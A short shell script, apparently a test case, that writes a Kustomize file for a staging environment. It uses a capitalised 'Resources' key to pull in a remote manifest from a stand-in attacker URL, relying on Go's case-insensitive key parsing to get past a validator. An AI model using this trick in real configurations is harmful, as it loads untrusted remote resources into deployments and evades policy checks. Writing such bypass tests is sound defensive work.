# Go reads keys in any case.
mkdir -p environments/staging/platform/team
cat > environments/staging/platform/team/kustomization.yaml <<'EOF'
apiVersion: kustomize.config.k8s.io/v1beta1
kind: Kustomization
Resources: [https://example.com/evil.yaml]
EOF
ml-pipeline render >/dev/null || true
